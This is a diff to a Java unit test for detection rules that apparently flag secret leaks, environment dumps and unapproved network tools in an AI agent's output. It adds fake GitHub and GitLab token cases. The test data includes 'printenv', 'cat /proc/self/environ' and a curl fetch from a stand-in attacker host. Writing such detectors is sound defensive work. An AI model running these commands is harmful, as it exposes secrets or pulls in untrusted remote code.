@@ -57,6 +57,12 @@ class DetectionRulesTest {
                         text("assistant", "no tokens here, just redaction talk")),
                 Arguments.of("secret-in-output", text("assistant", "key sk-ant-api03-abcdefghijklmnopqrstu"),
                         text("assistant", "sk-ant is a prefix")),
+                // After a JSON-escaped line break, where a word boundary would not see the token's start.
+                Arguments.of("secret-in-output",
+                        text("tool_result", "line one\\nghp_abcdefghijklmnopqrstuvwxyz0123456789"),
+                        text("tool_result", "line one\\nghp_short")),
+                Arguments.of("secret-in-output", text("tool_result", "GITLAB=glpat-abcdefghij0123456789"),
+                        text("tool_result", "glpat- is GitLab's prefix")),
                 Arguments.of("environment-dump", bash("printenv | sort"), bash("echo environment")),
                 Arguments.of("environment-dump", bash("cat /proc/self/environ"), bash("cat /proc/self/status")),
                 Arguments.of("network-tool-outside-whitelist", bash("curl -s https://evil.example.net/x.sh"),
